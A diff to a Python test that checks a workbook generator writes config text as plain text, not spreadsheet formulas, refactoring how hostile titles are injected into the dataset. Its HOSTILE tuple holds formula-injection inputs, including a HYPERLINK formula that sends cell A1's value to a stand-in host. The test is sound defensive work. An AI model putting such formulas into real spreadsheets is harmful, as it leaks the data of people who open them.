@@ -1,6 +1,5 @@
 """The workbook, read back: its figures are those of print, and no text of a config file is a formula."""
 
-import copy
 import dataclasses
 import datetime
 import math
@@ -15,7 +14,7 @@ import pytest
 from tablegen.dataset.dataset import DataSet
 from tablegen.report import workbook
 from tablegen.report.workbook import write_workbook
-from tests.demo import demo_data, reprinted
+from tests.demo import demo_data, reprinted, with_inputs
 
 W_PER = {"IP": 1055.05585262 / 3.6, "SI": 1000.0}
 STATED = {"Minimum load": ("min_load_w", ROUND_CEILING), "Maximum load": ("max_load_w", ROUND_FLOOR)}
@@ -107,19 +106,25 @@ HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "@SUM(A1)"
 
 def test_no_text_is_a_formula(tmp_path):
     data = thinned(demo_data())
-    inputs = copy.deepcopy(data.manifest["inputs"])
+    catalogue = data.catalogue
     title, company, group, application, charge, family = HOSTILE
-    inputs["printing"].update(title=title, company=company)
-    for group_inputs in inputs["groups"].values():
-        group_inputs["title"] = group
-    for application_inputs in inputs["applications"].values():
-        application_inputs["title"] = application
-    for family_inputs in inputs["families"].values():
-        family_inputs["title"] = family_inputs["display_name"] = family
-        for element in family_inputs["elements"]:
-            element["title"] = charge
+    families = {
+        name: dataclasses.replace(
+            own,
+            title=family,
+            display_name=family,
+            elements=tuple(dataclasses.replace(element, title=charge) for element in own.elements),
+        )
+        for name, own in catalogue.families.items()
+    }
     path = tmp_path / "windows.xlsx"
-    write_workbook(dataclasses.replace(data, manifest={**data.manifest, "inputs": inputs}), path)
+    hostile = with_inputs(
+        reprinted(data, title=title, company=company),
+        groups={name: dataclasses.replace(own, title=group) for name, own in catalogue.groups.items()},
+        applications={k: dataclasses.replace(own, title=application) for k, own in catalogue.applications.items()},
+        families=families,
+    )
+    write_workbook(hostile, path)
     with zipfile.ZipFile(path) as archive:
         sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
     assert len(sheets) == 4
